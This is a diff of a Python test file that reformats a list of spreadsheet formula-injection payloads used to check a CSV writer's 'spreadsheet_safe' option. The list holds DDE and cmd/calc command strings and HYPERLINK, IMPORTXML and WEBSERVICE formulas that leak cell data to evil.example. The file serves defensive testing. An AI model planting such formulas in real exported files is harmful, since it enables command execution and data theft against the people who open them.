@@ -61,9 +61,20 @@ def test_no_rows(tmp_path):
 # ---- spreadsheets ------------------------------------------------------------------------------------------------------------
 
 COMMANDS = [
-    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "SUM(A1:A9)", "A1", "DDE(\"cmd\";\"/C calc\";\"x\")",
-    "IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "WEBSERVICE(\"http://evil.example\")", "rundll32|'x'!A", "x", "", "5x", "--5",
-]  # fmt: skip
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://evil.example?x="&A1,"click")',
+    "SUM(A1:A9)",
+    "A1",
+    'DDE("cmd";"/C calc";"x")',
+    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    'WEBSERVICE("http://evil.example")',
+    "rundll32|'x'!A",
+    "x",
+    "",
+    "5x",
+    "--5",
+]
 STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r=", " =", "  +", "==", "=-", "+=", "@=", "＝", "＋"]
 PAYLOADS = [start + command for start in STARTS for command in COMMANDS]
 NUMBERS = ["-5", "+5", "-5.5", "-.5", "+1e5", "-1E-5", "0", "12", "1.", "-0"]
@@ -105,7 +116,13 @@ def test_typed_numbers_and_dates_stay(tmp_path):
 def test_off_by_default_and_ordinary_text_stays(tmp_path):
     table = pa.table({"a": ["=1+1", "a-b", "x@y.org", "20-29", "[20, 30[", "*"]})
     assert written(table, tmp_path).splitlines()[1] == "=1+1"
-    assert written(table, tmp_path, spreadsheet_safe=True).splitlines()[2:] == ["a-b", "x@y.org", "20-29", '"[20, 30["', "*"]
+    assert written(table, tmp_path, spreadsheet_safe=True).splitlines()[2:] == [
+        "a-b",
+        "x@y.org",
+        "20-29",
+        '"[20, 30["',
+        "*",
+    ]
 
 
 def test_names_that_are_formulas_are_refused(tmp_path):
